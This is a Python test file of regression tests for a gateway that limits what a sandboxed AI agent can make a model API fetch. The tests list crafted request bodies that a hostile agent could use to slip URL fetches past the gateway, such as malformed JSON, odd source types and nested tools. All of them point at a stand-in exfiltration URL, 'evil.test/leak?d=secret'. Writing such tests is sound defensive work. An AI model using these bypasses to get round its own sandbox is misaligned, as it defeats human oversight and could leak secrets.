"""Attacks on the API wall (issue 37, A1/A2), as a hostile agent in the box would send them to
a real gateway process: bodies that try to make the API reach a URL without
`--allow-api-fetch`, judged by what the stand-in upstream on loopback received; and requests
that try to take the budget past itself, judged by the usage file. What got through on main
is refused here; what held is kept as a regression (docs/decisions.md, "Attacks on the API
wall")."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from flower.testing import FakeAPI
from tests.flowerbox.conftest import GatewayProcess
from tests.flowerbox.test_api_fetch import api, asking, post, url_source

__all__ = ["api"]  # the stand-in upstream fixture, shared with test_api_fetch

Start = Callable[..., GatewayProcess]
EVIL = "https://evil.test/leak?d=secret"


# --- got through on main: forwarded with the real key ------------------------------------

GOT_THROUGH = {
    # Python keeps a lone surrogate; a parser that drops it reads "url".
    "a lone surrogate in a source type": (
        json.dumps(asking(url_source("document", EVIL)))
        .replace('"url"', '"ur\\ud800l"', 1)
        .encode(),
        "lone surrogate",
    ),
    # Not JSON: a lenient parser reads it, a strict one refuses; the gateway guesses neither.
    "NaN": (b'{"model": "claude-sonnet-4-5", "max_tokens": NaN, "messages": []}', "NaN"),
    # A source type the gateway did not know passed: "URL", "url ", a string, a new kind.
    **{
        f"an image source {source!r}": (
            json.dumps(asking({"type": "image", "source": source})).encode(),
            "image source of a kind it does not know",
        )
        for source in (
            {"type": "URL", "url": EVIL},
            {"type": "url ", "url": EVIL},
            EVIL,
            {"type": "remote", "href": EVIL},
        )
    },
    # A file_id was looked for only in blocks without a source.
    "a file_id beside a source": (
        json.dumps(
            asking({"type": "container_upload", "file_id": "file_011", "source": {"type": "text"}})
        ).encode(),
        "container_upload of a file_id",
    ),
    "a block of type file": (
        json.dumps(asking({"type": "file", "file_id": "file_011"})).encode(),
        "file of a file_id",
    ),
    # tools as one object (or a list in a list): iterated as keys, no server tool seen.
    "tools as an object": (
        json.dumps(asking(tools={"type": "web_fetch_20250910", "name": "web_fetch"})).encode(),
        "tools that are not a list of objects",
    ),
    "tools in a list in a list": (
        json.dumps(asking(tools=[[{"type": "web_fetch_20250910", "name": "web_fetch"}]])).encode(),
        "tools that are not a list of objects",
    ),
    # A turn the API would continue with its own call: only a server tool makes one.
    "a server_tool_use block": (
        json.dumps(
            {
                "model": "claude-sonnet-4-5",
                "max_tokens": 10,
                "messages": [
                    {"role": "user", "content": "go on"},
                    {
                        "role": "assistant",
                        "content": [
                            {
                                "type": "server_tool_use",
                                "id": "srvtoolu_1",
                                "name": "web_fetch",
                                "input": {"url": EVIL},
                            }
                        ],
                    },
                ],
            }
        ).encode(),
        "a server_tool_use block",
    ),
}


@pytest.mark.parametrize("name", sorted(GOT_THROUGH))
def test_what_got_through_is_refused_and_never_forwarded(
    name: str, api: FakeAPI, start_gateway: Start
) -> None:
    body, why = GOT_THROUGH[name]
    gateway = start_gateway(api.url)
    status, message = post(gateway, body)
    assert status in (400, 403) and why in message, (status, message)
    assert api.requests == []
